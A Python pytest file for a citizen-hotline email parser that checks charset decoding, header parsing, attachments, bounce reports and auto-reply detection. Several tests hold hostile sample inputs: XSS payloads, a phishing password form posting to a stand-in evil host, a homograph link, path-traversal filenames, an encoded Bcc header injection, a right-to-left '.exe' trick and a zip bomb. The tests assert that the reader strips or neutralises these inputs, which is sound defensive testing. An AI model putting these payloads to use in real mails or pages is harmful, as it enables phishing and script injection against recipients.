"""Golden mails: what is read of mails as many programs, and some enemies, write them (MM1, MM2)."""

import base64
from collections.abc import AsyncIterator
from typing import Any

import pytest
import pytest_asyncio

from channels.email.mime import reader
from channels.email.mime.reader import Batch, MailReader
from channels.email.rules import machines
from channels.email.rules.heads import Head
from infra.programs.runner import running
from tests.attachable import PDF, PNG
from tests.unit.channels.email import letters
from tests.unit.channels.email.letters import attached, html, mail, many, part, parts, plain, text, word

pytestmark = pytest.mark.asyncio(loop_scope="module")


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def batch() -> AsyncIterator[Batch]:
    async with MailReader().batch() as made:
        yield made


@pytest.mark.parametrize(
    ("charset", "label", "words"),
    [
        ("gb18030", "gb2312", "朱镕基同志，喆、堃、㙍"),
        ("gb18030", "GBK", "您好，喆"),
        ("utf-8", "gb2312", "其实是万国码"),
        ("gb18030", "utf-8", "其实是国标码，没有声明"),
        ("big5", "big5", "繁體中文"),
        ("utf-8", "us-ascii", "没有声明的字"),
        ("utf-8", "no-such-charset", "不存在的字符集"),
        ("utf-8", "unicode_escape", "\\u0041 并不解码"),
        ("iso2022_jp", "iso-2022-jp", "日本語です"),
        ("utf-8", '"utf-8"', "带引号"),
    ],
)
async def test_a_text_is_read_in_its_real_charset(batch: Batch, charset: str, label: str, words: str) -> None:
    letter = await batch.read(text(words, charset, label=label))
    assert letter.text == words


async def test_headers_are_decoded_as_they_are_really_written(batch: Batch) -> None:
    """A name in GB2312 with a character that only GB18030 has, and a subject cut within a character."""
    whole = "关于小区停水的紧急求助".encode()
    halves = [base64.b64encode(half).decode() for half in (whole[:10], whole[10:])]
    name = word("李喆", "GB2312", "gb18030")
    subject = f"=?utf-8?B?{halves[0]}?=\r\n =?utf-8?B?{halves[1]}?= (1)"
    letter = await batch.read(mail(f"Subject: {subject}", sender=f"{name} <Li.Zhe@Example.COM>"))
    assert letter.head is not None
    assert (letter.head.sender, letter.head.name) == ("li.zhe@example.com", "李喆")
    assert letter.head.subject == "关于小区停水的紧急求助 (1)"


async def test_raw_bytes_in_headers_are_read_too(batch: Batch) -> None:
    raw = mail("Subject: X", sender="Y <li@example.com>")
    raw = raw.replace(b"X", "没有编码的主题".encode("gb18030")).replace(b"Y", "小李".encode())
    letter = await batch.read(raw)
    assert letter.head is not None
    assert (letter.head.subject, letter.head.name) == ("没有编码的主题", "小李")


@pytest.mark.parametrize(
    ("header", "expected"),
    [
        ('"boss@city.example" <evil@example.com>', "evil@example.com"),
        (f"{word('a@city.example <b@city.example>', 'utf-8')} <evil@example.com>", "evil@example.com"),
        (word("boss@city.example", "utf-8"), ""),
        ("li@example.com", "li@example.com"),
        ("undisclosed", ""),
    ],
)
async def test_the_address_is_the_one_that_sent(batch: Batch, header: str, expected: str) -> None:
    """A name that looks like an address is a name."""
    letter = await batch.read(mail("Subject: a", sender=header))
    assert letter.head is not None
    assert letter.head.sender == expected


@pytest.mark.parametrize("program", letters.QUOTED)
async def test_quotes_and_signatures_are_folded(batch: Batch, program: str) -> None:
    words, own = letters.QUOTED[program]
    letter = await batch.read(text(words, "utf-8", "Subject: Re: water"))
    assert letter.text == own
    assert letter.folded > 0
    assert letter.full == words.strip()


async def test_a_forwarded_mail_is_not_folded(batch: Batch) -> None:
    """The mail that somebody passes on is the matter, also when only the subject tells so."""
    marked = await batch.read(text(letters.FORWARDED))
    by_subject = await batch.read(text(letters.OUTLOOK, "utf-8", f"Subject: {word('转发: 停水', 'utf-8')}"))
    assert (marked.folded, by_subject.folded) == (0, 0)
    assert "本周修好" in marked.text
    assert "水务局" in by_subject.text


async def test_a_mail_within_a_mail_is_read(batch: Batch) -> None:
    inner = b"Content-Type: message/rfc822\r\n\r\n" + text("原来的投诉", "gb18030", "Subject: old", label="gb2312")
    letter = await batch.read(parts("mixed", plain("请看附件"), inner))
    assert letter.text.startswith("请看附件")
    assert "原来的投诉" in letter.text


async def test_html_alone_gives_text_and_a_safe_page(batch: Batch) -> None:
    """Nothing runs, calls another site, hides, or asks for a password."""
    page = (
        "<html><head><title>t</title><style>p{color:#fff}</style></head><body onload='x()'>"
        "<p style='color:white;font-size:1px;position:fixed;text-align:center'>第一段</p>"
        "<script>alert(1)</script><img src='http://spy.example/a.gif'><img src=x onerror=alert(1)>"
        "<a href='http://evil.example/login' onclick='x()'>www.bank.example</a>"
        "<a href='javascript:alert(1)'>点我</a><form action='http://evil.example'><input name=pw>密码</form>"
        "<iframe src='http://evil.example'></iframe><blockquote>旧的</blockquote>"
        "<svg><script>alert(2)</script></svg><base href='http://evil.example'><meta http-equiv=refresh content=0>"
    )
    letter = await batch.read(parts("alternative", html(page)))
    assert letter.text.startswith("第一段\nwww.bank.example [evil.example]点我")
    assert "旧的" not in letter.text
    assert "> 旧的" in letter.full
    shown = letter.page.partition("<body>")[2].lower()
    bad = (
        "script",
        "onload",
        "onclick",
        "onerror",
        "spy.example",
        "<form",
        "<input",
        "iframe",
        "<base",
        "<meta",
        "svg",
    )
    assert [word for word in (*bad, "color", "position", "font-size", "javascript") if word in shown] == []
    assert "[evil.example]" in shown
    assert "[图片 picture]" in shown
    assert "text-align:center" in shown
    assert "default-src 'none'" in letter.page


async def test_a_link_with_foreign_letters_is_shown_plainly(batch: Batch) -> None:
    letter = await batch.read(parts("mixed", html("<a href='https://аpple.com/x'>apple.com</a>")))
    assert "[xn--pple-43d.com]" in letter.page
    assert "[xn--pple-43d.com]" in letter.text


async def test_pictures_within_a_mail_are_shown(batch: Batch) -> None:
    """By their content ids; and only if they are pictures."""
    picture = part("image/png", PNG, "Content-ID: <p1@x>", "Content-Disposition: inline; filename=a.png")
    fake = part("image/png", b"<svg onload=alert(1)>", "Content-ID: <p2@x>")
    page = html("<p>看图</p><img src='cid:p1@x'><img src='cid:p2@x'>")
    letter = await batch.read(parts("related", page, picture, fake))
    assert letter.page.count("data:image/png;base64,") == 1
    assert letter.page.count("[图片 picture]") == 1
    assert bytes(letter.files[0].data) == PNG


async def test_a_stub_of_text_gives_way_to_the_html(batch: Batch) -> None:
    body = "<p>" + "请尽快处理小区停水的问题。" * 10 + "</p>"
    letter = await batch.read(parts("alternative", plain("请用支持 HTML 的程序"), html(body)))
    assert letter.text.startswith("请尽快处理")


async def test_plain_text_is_preferred_and_parts_are_joined(batch: Batch) -> None:
    """Apple Mail puts text before and after a picture."""
    letter = await batch.read(parts("mixed", plain("前"), part("image/png", PNG), plain("后")))
    assert letter.text == "前\n\n后"
    assert [file.media_type for file in letter.files] == ["image/png"]


async def test_flowed_lines_are_joined(batch: Batch) -> None:
    words = b"one \r\ntwo\r\n-- \r\nme\r\n"
    letter = await batch.read(mail("Content-Type: text/plain; format=flowed", body=words))
    assert letter.text == "one two"


@pytest.mark.parametrize(
    "disposition",
    [
        f'attachment; filename="{word("停水证明.pdf", "GB2312", "gb18030")}"',
        "attachment; filename*=utf-8''%E5%81%9C%E6%B0%B4%E8%AF%81%E6%98%8E.pdf",
        "attachment; filename*=gb2312''%CD%A3%CB%AE%D6%A4%C3%F7.pdf",
        "attachment; filename*0*=utf-8''%E5%81%9C%E6%B0%B4;\r\n filename*1*=%E8%AF%81%E6%98%8E;\r\n filename*2=.pdf",
        'attachment; filename="C:\\\\文件\\\\停水证明.pdf"',
        'attachment; filename="../../停水证明.pdf"',
    ],
)
async def test_names_of_files_are_read_in_every_way(batch: Batch, disposition: str) -> None:
    given = part("application/pdf", PDF, f"Content-Disposition: {disposition}")
    letter = await batch.read(parts("mixed", plain("见附件"), given))
    assert letter.files[0].name == "停水证明.pdf"
    assert bytes(letter.files[0].data) == PDF


async def test_outlooks_own_format_is_named_and_not_opened(batch: Batch) -> None:
    letter = await batch.read(parts("mixed", plain("a"), attached("winmail.dat", b"\x78\x9f\x3e\x22" * 9)))
    assert [(file.name, file.left_out, bytes(file.data)) for file in letter.files] == [("winmail.dat", "tnef", b"")]


async def test_an_invitation_is_told_in_words(batch: Batch) -> None:
    event = part("text/calendar; charset=utf-8; method=REQUEST", letters.INVITATION.encode())
    letter = await batch.read(parts("mixed", plain("请参加"), event))
    assert letter.text == (
        "请参加\n\n[日程邀请] 供水协调会, 第二次\n"
        "时间：2026-12-02 14:00 China Standard Time 至 2026-12-02 15:00 China Standard Time\n地点：市政大厅 301"
    )


async def test_a_signed_mail_is_read_and_an_encrypted_one_is_named(batch: Batch) -> None:
    signature = attached("signature.asc", b"x", "application/pgp-signature")
    signed = await batch.read(parts("signed", plain("签名的"), signature))
    hidden = await batch.read(mail("Content-Type: application/pkcs7-mime; name=smime.p7m", body=b"x"))
    assert (signed.text, signed.files) == ("签名的", [])
    assert hidden.files[0].left_out == "encrypted"


async def test_a_process_rests_between_batches_and_is_replaced(monkeypatch: pytest.MonkeyPatch) -> None:
    """One start serves several batches; a process that failed, or has read enough, is not used again."""
    started: list[str] = []

    def counted(*command: Any, **more: Any) -> Any:
        started.append("")
        return running(*command, **more)

    monkeypatch.setattr(reader, "running", counted)
    made = MailReader(keep_s=1_000.0)
    for _ in range(3):
        async with made.batch() as one:
            assert (await one.read(text("一"))).text == "一"
    assert len(started) == 1
    monkeypatch.setattr(reader, "MOST_MAILS", 4)
    async with made.batch() as one:
        await one.read(text("一"))
    async with made.batch() as one:
        await one.read(text("一"))
    assert len(started) == 2
    await made.close()
    async with made.batch() as one:
        await one.read(text("一"))
        assert one._worker is not None
        await one._worker.stop()
        assert (await one.read(text("二"))).text == "二"
    assert len(started) == 4
    await made.close()


async def test_deep_and_wide_mails_end(batch: Batch) -> None:
    """A few levels are read, many are not, and nobody waits."""
    assert (await batch.read(letters.nested(10))).text == "最里面"
    deep = await batch.read(letters.nested(60))
    assert (deep.text, deep.cut) == ("", True)
    abyss = await batch.read(letters.nested(2_000))
    assert abyss.broken
    assert abyss.head is not None
    assert abyss.head.sender == "li@example.com"
    wide = await batch.read(parts("mixed", *[plain("x")] * 500))
    assert wide.cut


async def test_html_that_is_nested_without_end_costs_no_other_mail(batch: Batch) -> None:
    """The process may die of it. The text of this mail stays, and the next one is read."""
    page = "<b>" * 200_000 + "<table><tr><td>" * 20_000
    letter = await batch.read(parts("alternative", plain("仍然可读"), html(page)))
    assert letter.text == "仍然可读"
    assert (await batch.read(text("下一封"))).text == "下一封"


async def test_bombs_and_giants_are_not_opened(batch: Batch) -> None:
    """A zip bomb is kept as it is, and 30 MB are left out by name."""
    giant = attached("a.pdf", PDF + bytes(30 * 1024 * 1024), "application/pdf")
    letter = await batch.read(parts("mixed", plain("a"), attached("b.docx", letters.bomb()), giant))
    assert [(file.name, file.left_out) for file in letter.files] == [("b.docx", ""), ("a.pdf", "too_large")]
    assert len(letter.files[0].data) < 100_000


@pytest.mark.parametrize(
    "raw",
    [
        b"",
        b"\r\n\r\n",
        b"\x00\xff\xfe" * 100,
        mail("Content-Type: multipart/mixed", body=b"no boundary at all"),
        parts("mixed", plain("a"))[:-10],
        mail("Content-Type: text/plain", "Content-Transfer-Encoding: base64", body=b"!!!"),
        mail("Content-Type: multipart/mixed; boundary=" + "x" * 5_000, body=b"--x"),
        mail("Subject: =?utf-8?Q?" + "=?" * 3_000, "Content-Type: ;;;;=;", body=b"a"),
        mail('Content-Disposition: attachment; filename*99999999999="x"', body=b"a"),
    ],
    ids=["empty", "blank", "noise", "no_boundary", "cut", "bad_base64", "long_boundary", "bad_words", "bad_name"],
)
async def test_malformed_mails_are_read_as_far_as_possible(batch: Batch, raw: bytes) -> None:
    letter = await batch.read(raw)
    assert letter.head is not None
    assert letter.head.sender in ("", "li@example.com")


async def test_a_subject_brings_no_header_and_no_turned_letters(batch: Batch) -> None:
    """An encoded line break is a space, and marks that turn the direction of writing are gone."""
    hidden = word("停水\r\nBcc: all@example.com\u202egpj.exe", "utf-8")
    letter = await batch.read(mail(f"Subject: {hidden}"))
    assert letter.head is not None
    assert letter.head.subject == "停水 Bcc: all@example.com gpj.exe"


OURS = "abc123.0123456789ab@city.example"


@pytest.mark.parametrize(
    ("action", "outcome"), [("failed", "failed"), ("delivered", "delivered"), ("delayed", ""), ("relayed", "")]
)
async def test_a_delivery_report_names_our_mail(batch: Batch, action: str, outcome: str) -> None:
    """RFC 3464."""
    letter = await batch.read(letters.report(action, "5.1.1", OURS))
    assert letter.report is not None
    assert letter.head is not None
    assert letter.report.message_ids == (OURS,)
    assert machines.outcome_of(letter.report, letter.head) == outcome


async def test_a_bounce_in_words_names_our_mail(batch: Batch) -> None:
    """QQ and NetEase write a letter instead of a report."""
    raw = text(f"您的邮件被退回。\n\nMessage-ID: <{OURS}>\n", "utf-8", f"Subject: {word('系统退信', 'utf-8')}")
    letter = await batch.read(raw.replace(b"Li <li@example.com>", b"PostMaster <postmaster@qq.example>"))
    assert letter.report is not None
    assert letter.head is not None
    assert machines.outcome_of(letter.report, letter.head) == "failed"
    assert letter.report.message_ids == (OURS,)


async def test_a_citizen_who_passes_on_a_bounce_is_no_bounce(batch: Batch) -> None:
    """Nor is one who answers under such a subject."""
    passed_on = b"Content-Type: message/rfc822\r\n\r\n" + letters.report("failed", "5.1.1", OURS)
    forwarded = await batch.read(parts("mixed", plain("我的邮件被退了"), passed_on))
    answered = await batch.read(text("又退信了", "utf-8", f"Subject: {word('退信', 'utf-8')}", f"References: <{OURS}>"))
    assert forwarded.report is None
    assert answered.report is None
    assert "我的邮件被退了" in forwarded.text


@pytest.mark.parametrize(
    "headers",
    [
        ("Auto-Submitted: auto-replied (vacation)",),
        ("Auto-Submitted: auto-generated; owner-email=x",),
        ("Precedence: bulk",),
        ("X-Auto-Response-Suppress: DR, OOF, AutoReply",),
        ("Return-Path: <>",),
        ("X-Autoreply: yes",),
        ("List-Unsubscribe: <https://example.com>",),
        ("X-Hotline-Hop: mail-1",),
        (f"Subject: {word('自动回复: 停水', 'utf-8')}",),
        ("Subject: Automatic reply: water",),
        tuple(f"Received: from s{number}.example" for number in range(40)),
    ],
    ids=["replied", "generated", "bulk", "suppress", "null_path", "autoreply", "list", "hop", "qq", "exchange", "loop"],
)
async def test_machines_are_told_apart(batch: Batch, headers: tuple[str, ...]) -> None:
    """RFC 3834, and what was in use before it."""
    letter = await batch.read(mail(*headers, body=b"a"))
    assert letter.head is not None
    assert machines.is_automatic(letter.head, frozenset())


@pytest.mark.parametrize(
    "headers",
    [
        ("Auto-Submitted: no",),
        ("Precedence: normal",),
        ("X-Auto-Response-Suppress: RN, NRN",),
        ("Return-Path: <li@example.com>",),
        (f"Subject: Re: {word('自动回复: 停水', 'utf-8')}",),
        (f"Subject: {word('投诉：自动回复电话没人管', 'utf-8')}",),
    ],
)
async def test_people_are_people(batch: Batch, headers: tuple[str, ...]) -> None:
    letter = await batch.read(mail(*headers, body=b"a"))
    assert letter.head is not None
    assert not machines.is_automatic(letter.head, frozenset())


async def test_our_own_address_and_robots_are_automatic() -> None:
    assert machines.is_automatic(Head(sender="hotline@city.example"), {"hotline@city.example"})
    assert machines.is_automatic(Head(sender="no-reply@bank.example"), set())
    assert not machines.is_automatic(Head(sender="noreen@example.com"), set())


async def test_many_builds_what_parsers_expect() -> None:
    assert many(b"a", b"b", mark="m") == b"--m\r\na\r\n--m\r\nb\r\n--m--\r\n"
